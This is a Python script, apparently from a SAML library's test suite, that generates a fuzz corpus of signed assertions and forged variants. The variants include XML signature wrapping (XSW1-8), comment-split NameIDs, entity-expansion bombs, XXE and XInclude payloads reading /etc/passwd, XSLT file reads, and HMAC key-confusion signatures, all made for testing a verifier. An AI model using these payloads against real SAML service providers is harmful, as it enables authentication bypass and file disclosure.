#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Makes tests/fuzz/corpus/assertion/* and tests/unit/saml_certs.h anew: assertions that are really signed, by xmlsec1(1), and what an attacker makes of them.
saml_attacks.py TOP      needs xmlsec1 and openssl. The private keys are thrown away, so everything is made at once; the results are in the repository.
In every attack the attacker's name is mallory; what the key really signed is about alice (or says nothing that matters)."""
import base64
import hashlib
import http.server
import os
import re
import subprocess
import sys
import tempfile
import threading

SAML, DS, EXC = "urn:oasis:names:tc:SAML:2.0:assertion", "http://www.w3.org/2000/09/xmldsig#", "http://www.w3.org/2001/10/xml-exc-c14n#"
MORE, ENC = "http://www.w3.org/2001/04/xmldsig-more#", "http://www.w3.org/2001/04/xmlenc#"
ENVELOPED = '<ds:Transform Algorithm="%senveloped-signature"/>' % DS
EXCLUSIVE = '<ds:Transform Algorithm="%s"/>' % EXC
top = sys.argv[1]
tmp = tempfile.TemporaryDirectory()
made = {}


def run(*args, data=None):
    done = subprocess.run(args, input=data, capture_output=True)
    if done.returncode:
        sys.exit("%s\n%s" % (args, done.stderr.decode()))
    return done.stdout


def path(name):
    return os.path.join(tmp.name, name)


def new_key(name, *alg):
    run("openssl", "genpkey", *alg, "-out", path(name + ".key"))
    run("openssl", "req", "-x509", "-new", "-key", path(name + ".key"), "-subj", "/CN=" + name, "-days", "36500", "-out", path(name + ".pem"))
    run("openssl", "x509", "-in", path(name + ".pem"), "-outform", "DER", "-out", path(name + ".der"))
    return name


def assertion(who="alice", id="_orig", signature="", extra="", name=None, attrs=""):
    return ('<saml2:Assertion xmlns:saml2="%s" ID="%s" IssueInstant="2026-11-23T06:30:00.000Z" Version="2.0"%s><saml2:Issuer>https://idp.acme.example/websso/SAML2/Metadata/acme.example'
            '</saml2:Issuer>%s<saml2:Subject><saml2:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">%s</saml2:NameID>'
            '<saml2:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml2:SubjectConfirmationData InResponseTo="_req" NotOnOrAfter="2026-11-23T07:30:00.000Z"'
            ' Recipient="https://sp.acme.example/acs"></saml2:SubjectConfirmationData></saml2:SubjectConfirmation></saml2:Subject><saml2:Conditions NotBefore="2026-11-23T06:29:00.000Z"'
            ' NotOnOrAfter="2026-11-23T07:30:00.000Z"><saml2:AudienceRestriction><saml2:Audience>https://sp.acme.example</saml2:Audience></saml2:AudienceRestriction></saml2:Conditions>'
            '<saml2:AuthnStatement AuthnInstant="2026-11-23T06:30:00.000Z" SessionIndex="_s"><saml2:AuthnContext><saml2:AuthnContextClassRef>'
            'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml2:AuthnContextClassRef></saml2:AuthnContext></saml2:AuthnStatement>'
            '<saml2:AttributeStatement><saml2:Attribute Name="mail" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic"><saml2:AttributeValue>%s@acme.example</saml2:AttributeValue>'
            '<saml2:AttributeValue>a&amp;b&lt;c&gt;"\xe9</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>%s</saml2:Assertion>'
            % (SAML, id, attrs, signature, name if name is not None else who + "@acme.example", who, extra))


def reference(uri="#_orig", transforms=ENVELOPED + EXCLUSIVE, digest=ENC + "sha256", value=""):
    uri = "" if uri is None else ' URI="%s"' % uri
    return '<ds:Reference%s><ds:Transforms>%s</ds:Transforms><ds:DigestMethod Algorithm="%s"/><ds:DigestValue>%s</ds:DigestValue></ds:Reference>' % (
        uri, transforms, digest, value)


def signature(refs=None, method=MORE + "rsa-sha256", c14n=EXC, inside=""):
    return ('<ds:Signature xmlns:ds="%s"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="%s"/><ds:SignatureMethod Algorithm="%s"/>%s'
            '</ds:SignedInfo><ds:SignatureValue></ds:SignatureValue>%s</ds:Signature>' % (DS, c14n, method, refs or reference(), inside))


def sign(xml, key="rsa", hmac=None, ids=("Assertion",), more=()):
    """The document with its first Signature completed."""
    open(path("in.xml"), "w", encoding="utf-8").write(xml)
    how = ["--hmackey", hmac] if hmac else ["--privkey-pem", path(key + ".key")]
    attrs = [a for n in ids for a in ("--id-attr:ID", n)]
    out = run("xmlsec1", "--sign", *how, *attrs, *more, "--output", "-", path("in.xml")).decode()
    out = out.split("?>\n", 1)[1] if out.startswith("<?xml") else out
    return out.rstrip("\n").replace("&#13;", "")


def keep(name, xml):
    made[name] = xml if isinstance(xml, bytes) else xml.encode()


def wrap(*parts):
    return '<w:Envelope xmlns:w="urn:example:wrap">%s</w:Envelope>' % "".join(parts)


def sig_of(xml):
    return re.search(r"<ds:Signature .*?</ds:Signature>", xml, re.S).group(0)


def without_sig(xml):
    return re.sub(r"<ds:Signature .*?</ds:Signature>", "", xml, flags=re.S)


def said(xml, keyinfo):
    return xml.replace("</ds:SignatureValue>", "</ds:SignatureValue><ds:KeyInfo>%s</ds:KeyInfo>" % keyinfo)


def evil(xml):
    return xml.replace("alice", "mallory")


new_key("rsa", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048")
new_key("other", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048")
new_key("weak", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:1024")
new_key("ec256", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256")
new_key("ec384", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-384")
new_key("ec521", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-521")

# ---- what is good
good = sign(assertion(signature=signature()))
keep("good-rsa-sha256", good)
for key, alg, dig in (("rsa", "rsa-sha384", MORE + "sha384"), ("rsa", "rsa-sha512", ENC + "sha512"), ("ec256", "ecdsa-sha256", ENC + "sha256"), ("ec384", "ecdsa-sha384", MORE + "sha384")):
    keep("good-" + alg, sign(assertion(signature=signature(reference(digest=dig), MORE + alg)), key))
keep("good-ecdsa-p384-sha256", sign(assertion(signature=signature(method=MORE + "ecdsa-sha256")), "ec384"))
keep("good-wrapped", wrap("<w:Before/>", good, "<!-- outside -->"))
keep("good-keyinfo", said(good, '<ds:RetrievalMethod URI="http://127.0.0.1:9/key" Type="%srawX509Certificate"/><ds:RetrievalMethod URI="file:///dev/null"/>' % DS))
keep("good-default-namespace", sign(assertion(signature=signature()).replace("saml2:", "").replace("xmlns:saml2", "xmlns")))

# ---- wrapping, after Somorovsky et al., "On Breaking SAML" (as SAML Raider counts them, on the assertion)
body, sig = without_sig(good), sig_of(good)
forged = evil(body).replace("_orig", "_evil")
forged_signed = forged.replace("</saml2:Issuer>", "</saml2:Issuer>" + sig)
keep("xsw1", wrap(forged.replace("</saml2:Issuer>", "</saml2:Issuer>" + sig.replace("</ds:Signature>", body + "</ds:Signature>"))))
keep("xsw2", wrap(body, forged_signed))
keep("xsw3", wrap(forged, good))
keep("xsw4", wrap(forged.replace("</saml2:Assertion>", good + "</saml2:Assertion>")))
keep("xsw5", wrap(forged_signed, body))
keep("xsw6", wrap(forged.replace("</saml2:Issuer>", "</saml2:Issuer>" + sig.replace("</ds:SignatureValue>", "</ds:SignatureValue>" + body))))
keep("xsw7", wrap("<w:Extensions>" + body + evil(good) + "</w:Extensions>"))
enveloping = sign(signature(reference(transforms=EXCLUSIVE), inside="<ds:Object>" + body + "</ds:Object>"))
keep("xsw8", wrap(forged.replace("</saml2:Issuer>", "</saml2:Issuer>" + enveloping)))
keep("xsw8-detached", wrap(body, forged.replace("</saml2:Issuer>", "</saml2:Issuer>" + sig_of(sign(wrap(signature(reference(transforms=EXCLUSIVE)), body))))))
keep("xsw-last", wrap(forged.replace("</saml2:Assertion>", sig + "</saml2:Assertion>"), body))
keep("xsw-inside", wrap(evil(sign(assertion(signature=signature(reference(transforms=EXCLUSIVE, uri="#_in")), extra='<saml2:Advice><saml2:Assertion ID="_in"/></saml2:Advice>')))))

# ---- documents
dressed = sign(assertion(signature=signature(), name="mallory@acme.example.evil.example"))
keep("comment-nameid", dressed.replace("acme.example.evil", "acme.example<!-- -->.evil"))
keep("comment-between", good.replace("<saml2:Subject>", "<!-- --><saml2:Subject>"))
keep("comment-signature", good.replace("<ds:SignatureMethod", "<!-- --><ds:SignatureMethod"))
keep("pi-nameid", sign(assertion(signature=signature(), name="mallory@acme.example<?x y?>.evil.example")))
keep("doctype", "<!DOCTYPE x>" + good)
keep("doctype-id", "<!DOCTYPE x [<!ATTLIST Evil ID ID #IMPLIED>]>" + good)
keep("entity", '<!DOCTYPE x [<!ENTITY e "alice">]>' + good.replace("alice", "&e;", 1))
keep("bomb", "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join("<!ENTITY a%d '%s'>" % (i, ("&a%d;" % (i - 1)) * 10) for i in range(1, 10)) + "]>" + good.replace("alice", "&a9;", 1))
keep("bomb-quadratic", "<!DOCTYPE x [<!ENTITY a '" + "h" * 20000 + "'>]>" + good.replace("alice", "&a;" * 20000, 1))
keep("bomb-parameter", "<!DOCTYPE x [<!ENTITY % a '" + "h" * 1000 + "'><!ENTITY % b '" + "%a;" * 100 + "'>%b;]>" + good)
keep("xxe-file", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + good.replace("alice", "&e;", 1))
keep("xxe-http", '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/e">]>' + good.replace("alice", "&e;", 1))
keep("xxe-parameter", '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:9/e"> %e;]>' + good)
keep("xxe-subset", '<!DOCTYPE x SYSTEM "file:///dev/null">' + good)
keep("xxe-public", '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://127.0.0.1:9/x.dtd">' + good)
keep("xinclude", good.replace("<saml2:Subject>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><saml2:Subject>'))
keep("utf16", ('<?xml version="1.0" encoding="UTF-16"?>' + good).encode("utf-16"))
keep("latin1", ('<?xml version="1.0" encoding="ISO-8859-1"?>' + good).encode("latin-1"))
keep("latin1-said", '<?xml version="1.0" encoding="ISO-8859-1"?>' + good)
keep("two-ids", wrap(good, '<w:x ID="_orig"/>'))
keep("two-ids-other-case", wrap(good, '<w:x Id="_orig"/>'))
keep("two-ids-wss", wrap('<w:x xmlns:u="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd" u:Id="_orig"/>', good))
stranger = '<w:x xml:id="_orig">harmless</w:x>'
shadow = sig_of(sign(wrap(signature(reference(transforms=EXCLUSIVE)), stranger), ids=()))
keep("xmlid", wrap(stranger, evil(body).replace("</saml2:Issuer>", "</saml2:Issuer>" + shadow)))
keep("xmlid-alone", wrap('<w:x xml:id="_x"/>', good))
keep("too-deep", "<a>" * 70 + good + "</a>" * 70)
keep("undeclared-prefix", sign(assertion(signature=signature()).replace("<saml2:Subject>", '<saml2:Subject q:a="1">')))
keep("unfinished", good[:-20])

# ---- references
empty = base64.b64encode(hashlib.sha256(b"").digest()).decode()
keep("uri-empty", sign(assertion(signature=signature(reference(uri="")))))
keep("uri-empty-wrapped", sign(wrap(assertion(who="mallory", signature=signature(reference(uri=""))))))
keep("uri-none", re.sub(r' URI="#_orig"', "", good))
keep("uri-file", evil(sign(assertion(signature=signature(reference(uri="file:///dev/null", transforms=EXCLUSIVE).replace("<ds:Transforms>" + EXCLUSIVE + "</ds:Transforms>", ""))))))
keep("uri-file-c14n", evil(good.replace('URI="#_orig"', 'URI="file:///etc/passwd"')))


class Quiet(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


server = http.server.HTTPServer(("127.0.0.1", 0), Quiet)
threading.Thread(target=server.serve_forever, daemon=True).start()
keep("uri-http", evil(sign(assertion(signature=signature(reference(uri="http://127.0.0.1:%d/x" % server.server_port).replace(
    "<ds:Transforms>" + ENVELOPED + EXCLUSIVE + "</ds:Transforms>", ""))))))
server.shutdown()
keep("uri-xpointer", sign(assertion(signature=signature(reference(uri="#xpointer(id('_orig'))")))))
keep("uri-xpointer-root", sign(wrap(assertion(who="mallory", signature=signature(reference(uri="#xpointer(/)"))))))
keep("two-references", sign(wrap(assertion(signature=signature(reference() + reference("#_two", EXCLUSIVE))), '<saml2:Advice xmlns:saml2="%s" ID="_two"/>' % SAML), ids=("Assertion", "Advice")))
keep("no-reference", re.sub(r"<ds:Reference .*</ds:Reference>", "", good))
keep("manifest", sign(wrap(assertion(who="mallory", signature=signature(reference("#_m", EXCLUSIVE), inside='<ds:Object><ds:Manifest ID="_m">' + reference(value=empty) + "</ds:Manifest></ds:Object>"))),
                      ids=("Manifest",), more=("--ignore-manifests",)))

# ---- transforms, canonicalisation
constant = ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            '<xsl:template match="/"><x>always</x></xsl:template></xsl:stylesheet></ds:Transform>')
keep("xslt", evil(sign(assertion(signature=signature(reference(transforms=ENVELOPED + constant))))))
reading = constant.replace("<x>always</x>", "<x><xsl:copy-of select=\"document('file:///etc/passwd')\"/></x>")
keep("xslt-file", evil(good.replace(EXCLUSIVE + "</ds:Transforms>", reading + "</ds:Transforms>")))
only_issuer = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath xmlns:s="%s">ancestor-or-self::s:Issuer</ds:XPath></ds:Transform>' % SAML
keep("xpath", evil(sign(assertion(signature=signature(reference(transforms=ENVELOPED + only_issuer + EXCLUSIVE))))))
keep("xpath2", evil(sign(assertion(signature=signature(reference(transforms=ENVELOPED + '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath xmlns:f='
     '"http://www.w3.org/2002/06/xmldsig-filter2" xmlns:s="%s" Filter="intersect">//s:Issuer</f:XPath></ds:Transform>' % SAML + EXCLUSIVE))))))
keep("transforms-inclusive", sign(assertion(signature=signature(reference(transforms=ENVELOPED + '<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>')))))
keep("transforms-prefixes", sign(assertion(signature=signature(reference(
    transforms=ENVELOPED + '<ds:Transform Algorithm="%s"><e:InclusiveNamespaces xmlns:e="%s" PrefixList="xs"/></ds:Transform>' % (EXC, EXC))))))
keep("transforms-twice", sign(assertion(signature=signature(reference(transforms=ENVELOPED + EXCLUSIVE + EXCLUSIVE)))))
keep("transforms-comments", sign(assertion(signature=signature(reference(transforms=ENVELOPED + EXCLUSIVE.replace("c14n#", "c14n#WithComments"))))))
keep("c14n-inclusive", sign(assertion(signature=signature(c14n="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"))))
keep("c14n-comments", sign(assertion(signature=signature(c14n=EXC + "WithComments"))))
keep("c14n-unknown", good.replace('CanonicalizationMethod Algorithm="%s"' % EXC, 'CanonicalizationMethod Algorithm="urn:example:c14n"'))


def signed_info(info, key="rsa"):
    """The value for a SignedInfo whose digest we chose: by openssl, over its canonical form."""
    canonical = info.replace("<ds:SignedInfo>", '<ds:SignedInfo xmlns:ds="%s">' % DS, 1)
    canonical = re.sub(r"<(ds:[A-Za-z0-9]+)([^<>]*)/>", r"<\1\2></\1>", canonical)
    return base64.b64encode(run("openssl", "dgst", "-sha256", "-sign", path(key + ".key"), data=canonical.encode())).decode()


def by_hand(info, over=None):
    value = signed_info(info) if over is None else base64.b64encode(run("openssl", "dgst", "-sha256", "-sign", path("rsa.key"), data=over)).decode()
    return '<ds:Signature xmlns:ds="%s">%s<ds:SignatureValue>%s</ds:SignatureValue></ds:Signature>' % (DS, info, value)


void = ('<ds:SignedInfo><ds:CanonicalizationMethod Algorithm="%s"/><ds:SignatureMethod Algorithm="%srsa-sha256"/>' % (EXC, MORE)) + reference(value=empty) + "</ds:SignedInfo>"
digest = base64.b64encode(hashlib.sha256(assertion().encode()).digest()).decode()
keep("good-by-hand", assertion(signature=by_hand(void.replace(empty, digest))))
# canonicalisation fails at a relative namespace; who then digests what came out so far, digests nothing
keep("c14n-fails", assertion(who="mallory", signature=by_hand(void)).replace("<saml2:Subject>", '<saml2:Subject xmlns:r="relative">'))
keep("c14n-fails-early", assertion(who="mallory", signature=by_hand(void), attrs=' xmlns:r="relative"'))
keep("c14n-fails-info", assertion(who="mallory", signature=by_hand(void.replace("<ds:SignedInfo>", '<ds:SignedInfo xmlns:r="relative">'), over=b"")))

# ---- methods and keys
public = run("openssl", "x509", "-in", path("rsa.pem"), "-pubkey", "-noout")
open(path("pub.pem"), "wb").write(public)
keep("hmac-public-key", sign(assertion(who="mallory", signature=signature(method=MORE + "hmac-sha256")), hmac=path("pub.pem")))
keep("hmac-certificate", sign(assertion(who="mallory", signature=signature(method=MORE + "hmac-sha256")), hmac=path("rsa.der")))
keep("hmac-sha1", sign(assertion(who="mallory", signature=signature(method=DS + "hmac-sha1")), hmac=path("pub.pem")))
truncated = sign(assertion(who="mallory", signature=signature(method=MORE + "hmac-sha256")), hmac=path("pub.pem"))
first = lambda m: base64.b64encode(base64.b64decode(m.group(1))[:1]).decode()
truncated = re.sub(r"<ds:SignatureValue>(.*?)</ds:SignatureValue>", lambda m: "<ds:SignatureValue>" + first(m) + "</ds:SignatureValue>", truncated, flags=re.S)
keep("hmac-truncated", re.sub(r'(<ds:SignatureMethod Algorithm="[^"]*")/>', r"\1><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>", truncated))
keep("hmac-length-0", re.sub(r'(<ds:SignatureMethod Algorithm="[^"]*")/>', r"\1><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>", truncated))
keep("method-length", re.sub(r'(<ds:SignatureMethod Algorithm="[^"]*")/>', r"\1><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>", good))
keep("rsa-sha1", sign(assertion(signature=signature(reference(digest=DS + "sha1"), DS + "rsa-sha1"))))
keep("rsa-md5", good.replace("rsa-sha256", "rsa-md5"))
keep("digest-sha1", sign(assertion(signature=signature(reference(digest=DS + "sha1")))))
keep("digest-other", sign(assertion(signature=signature(reference(digest=ENC + "sha512")))))
keep("digest-unknown", good.replace(ENC + "sha256", "urn:example:digest"))
keep("method-unknown", good.replace(MORE + "rsa-sha256", "urn:example:none"))
keep("method-none", re.sub(r"<ds:SignatureMethod[^>]*/>", "", good))
keep("method-other", good.replace(MORE + "rsa-sha256", MORE + "ecdsa-sha256"))
keep("other-key", sign(assertion(signature=signature()), "other"))
cert = base64.b64encode(open(path("other.der"), "rb").read()).decode()
keep("other-key-said", said(sign(assertion(who="mallory", signature=signature()), "other"), "<ds:X509Data><ds:X509Certificate>%s</ds:X509Certificate></ds:X509Data>" % cert))
keep("weak-key", sign(assertion(signature=signature()), "weak"))
keep("other-curve", sign(assertion(signature=signature(method=MORE + "ecdsa-sha256")), "ec521"))

# ---- changed after it was signed
keep("changed", evil(good))
keep("changed-digest", re.sub(r"(<ds:DigestValue>)....", r"\1AAAA", good))
keep("changed-value", re.sub(r"(<ds:SignatureValue>)....", r"\1AAAA", good))
keep("changed-time", good.replace("07:30:00", "09:30:00"))
keep("value-empty", re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>", "<ds:SignatureValue></ds:SignatureValue>", good, flags=re.S))
keep("value-short", re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>", "<ds:SignatureValue>AAAA</ds:SignatureValue>", good, flags=re.S))
keep("value-not-base64", re.sub(r"(<ds:SignatureValue>)....", r"\1!!!!", good))
keep("unsigned", body)

# ---- signatures
junk = '<ds:Signature xmlns:ds="%s"></ds:Signature>' % DS
keep("two-signatures", sign(assertion(signature=signature(), extra=junk)))
keep("two-signatures-beside", good.replace("</ds:Signature>", "</ds:Signature>" + sig))
keep("signature-last", sign(assertion(extra=signature())))
keep("signature-object", sign(assertion(signature=signature(inside="<ds:Object>x</ds:Object>"))))
keep("signature-id", sign(assertion(signature=signature().replace("<ds:Signature ", '<ds:Signature Id="s" '))))
keep("signature-namespace", good.replace('xmlns:ds="%s"' % DS, 'xmlns:ds="urn:example:ds"'))

# ---- signed, but not of the profile
keep("id-not-a-name", sign(assertion(id="1or2", signature=signature(reference("#1or2")))))
keep("version-11", sign(assertion(signature=signature()).replace('Version="2.0"', 'Version="1.1"')))
keep("saml11", sign(assertion(signature=signature()).replace(SAML, "urn:oasis:names:tc:SAML:1.0:assertion")))
keep("element-unknown", sign(assertion(signature=signature(), extra='<x:Subject xmlns:x="urn:example:x">mallory</x:Subject>')))
keep("element-advice", sign(assertion(signature=signature(), extra="<saml2:Advice></saml2:Advice>")))
keep("subject-twice", sign(assertion(signature=signature(), extra="<saml2:Subject><saml2:NameID>mallory</saml2:NameID></saml2:Subject>")))
keep("nameid-namespace", sign(assertion(signature=signature()).replace("<saml2:NameID ", '<x:NameID xmlns:x="urn:example:x">mallory</x:NameID><saml2:NameID ')))
keep("nameid-element", sign(assertion(signature=signature(), name="mallory@acme.example<saml2:Issuer/>.evil.example")))
keep("nameid-qualifier", sign(assertion(signature=signature()).replace("<saml2:NameID ", '<saml2:NameID SPNameQualifier="x" ')))
keep("attribute-namespace", sign(assertion(signature=signature()).replace("<saml2:NameID ", '<saml2:NameID xmlns:x="urn:example:x" x:Format="y" ')))
keep("text-between", sign(assertion(signature=signature()).replace("<saml2:Conditions ", "mallory<saml2:Conditions ")))
keep("holder-of-key", sign(assertion(signature=signature()).replace("cm:bearer", "cm:holder-of-key")))
keep("time-bad", sign(assertion(signature=signature()).replace('IssueInstant="2026-11-23T06:30:00.000Z"', 'IssueInstant="yesterday"')))
keep("times-differ", sign(assertion(signature=signature()).replace('NotOnOrAfter="2026-11-23T07:30:00.000Z"', 'NotOnOrAfter="2026-11-23T08:30:00.000Z"', 1)))

folder = os.path.join(top, "tests/fuzz/corpus/assertion")
os.makedirs(folder, exist_ok=True)
for old in os.listdir(folder):
    os.unlink(os.path.join(folder, old))
for name, data in made.items():
    open(os.path.join(folder, name + ".xml"), "wb").write(data)
with open(os.path.join(top, "tests/unit/saml_certs.h"), "w", encoding="ascii") as out:
    out.write("/* SPDX-License-Identifier: Apache-2.0 */\n/* Made by saml_attacks.py: the certificates of those who signed tests/fuzz/corpus/assertion. */\n")
    out.write("#ifndef TESTS_UNIT_SAML_CERTS_H\n#define TESTS_UNIT_SAML_CERTS_H\n\n#include <stdint.h>\n")
    for name in ("rsa", "weak", "ec256", "ec384", "ec521", "other"):
        der = open(path(name + ".der"), "rb").read()
        rows = [", ".join("0x%02x" % b for b in der[i:i + 20]) for i in range(0, len(der), 20)]
        out.write("\nstatic const uint8_t cert_%s[] __attribute__((unused)) = {\n\t%s\n};\n" % (name, ",\n\t".join(rows)))
    out.write("\n#endif\n")
print(len(made), "files")
